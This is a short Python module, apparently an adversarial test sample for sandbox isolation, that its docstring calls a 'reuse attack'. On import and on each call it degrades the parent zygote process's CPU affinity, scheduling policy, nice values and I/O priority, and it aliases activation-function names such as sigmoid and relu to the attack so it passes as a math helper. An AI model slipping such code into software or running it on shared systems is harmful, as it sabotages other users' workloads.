"""Reuse attack: change the zygote's scheduling (policy, priority, affinity, nice, I/O priority)."""

import ctypes
import os

_libc = ctypes.CDLL(None, use_errno=True)
_libc.syscall.restype = ctypes.c_long


def _attack():
    zygote = os.getppid()
    for action in (
        lambda: os.sched_setaffinity(zygote, {sorted(os.sched_getaffinity(0))[-1]}),
        lambda: os.sched_setscheduler(zygote, os.SCHED_IDLE, os.sched_param(0)),
        lambda: os.sched_setparam(zygote, os.sched_param(0)),
        lambda: os.setpriority(os.PRIO_PROCESS, zygote, 19),
        lambda: os.setpriority(os.PRIO_PGRP, 0, 19),  # our process group holds the zygote
        lambda: os.setpriority(os.PRIO_PGRP, os.getpgid(zygote), 18),
        lambda: os.setpriority(os.PRIO_USER, 0, 17),
    ):
        try:
            action()
        except (OSError, ValueError, AttributeError):
            pass
    _libc.syscall(251, 1, zygote, 3 << 13)  # ioprio_set(IOPRIO_WHO_PROCESS, zygote, IOPRIO_CLASS_IDLE)
    _libc.syscall(251, 2, 0, 3 << 13)  # ... and the whole process group


_attack()


def step(x):
    _attack()
    return None


sigmoid = sigmoid_grad = tanh = tanh_grad = relu = relu_grad = activate = C2F = bipolar_step = step
